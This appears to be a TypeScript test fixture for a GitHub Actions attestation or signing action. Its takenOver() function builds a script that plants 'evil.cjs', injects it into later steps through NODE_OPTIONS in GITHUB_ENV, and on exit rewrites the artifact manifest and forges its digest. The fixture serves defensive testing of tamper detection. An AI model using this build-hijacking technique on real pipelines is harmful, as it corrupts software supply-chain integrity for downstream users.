/** What a build makes in every test; its digest is the one that must be signed for. */
export const BUILD = `mkdir -p dist && printf 'the app\\n' > dist/app.tgz\n`

/**
 * A script that takes the build machine over: after it, code of the attacker's runs inside every action of the job, at
 * its end. GitHub's runner takes no NODE_OPTIONS out of GITHUB_ENV, but whoever runs a build as root has other ways.
 *
 * @param code JavaScript that runs when `collect` has written its outputs. It knows `fs`, `path`, `crypto`, the `folder`
 * and `manifest` that were handed over, `seal()`, which writes the manifest and forges the output for it, and `hand(name,
 * content)`, which puts a file among those that are handed over
 */
export function takenOver(code: string): string {
  return `${BUILD}
cat > "$RUNNER_TEMP/evil.cjs" <<'JAVASCRIPT'
if (process.env.INPUT_ARTIFACTS !== undefined) process.on('exit', () => {
  const fs = require('node:fs')
  const path = require('node:path')
  const crypto = require('node:crypto')
  const sha256 = (bytes) => crypto.createHash('sha256').update(bytes).digest('hex')
  const output = fs.readFileSync(process.env.GITHUB_OUTPUT, 'utf8')
  const [, folder] = /^folder<<.*\\n(.*)\\n/m.exec(output) ?? /^folder=(.*)$/m.exec(output)
  const file = path.join(folder, 'subjects.json')
  const manifest = JSON.parse(fs.readFileSync(file, 'utf8'))
  const hand = (name, content) => {
    fs.mkdirSync(path.dirname(path.join(folder, 'files', name)), { recursive: true })
    fs.writeFileSync(path.join(folder, 'files', name), content)
    return { digest: { sha256: sha256(content) }, file: 'files/' + name, name: path.basename(name) }
  }
  const canonical = (value) => Array.isArray(value) ? '[' + value.map(canonical).join() + ']'
    : value !== null && typeof value === 'object'
    ? '{' + Object.keys(value).sort().map((key) => JSON.stringify(key) + ':' + canonical(value[key])).join() + '}'
    : JSON.stringify(value)
  const seal = (bytes = canonical(manifest)) => {
    fs.writeFileSync(file, bytes)
    fs.appendFileSync(process.env.GITHUB_OUTPUT, 'subjects-digest=sha256:' + sha256(bytes) + '\\n')
  }
  ${code}
})
JAVASCRIPT
echo "NODE_OPTIONS=--require $RUNNER_TEMP/evil.cjs" >> "$GITHUB_ENV"
`
}
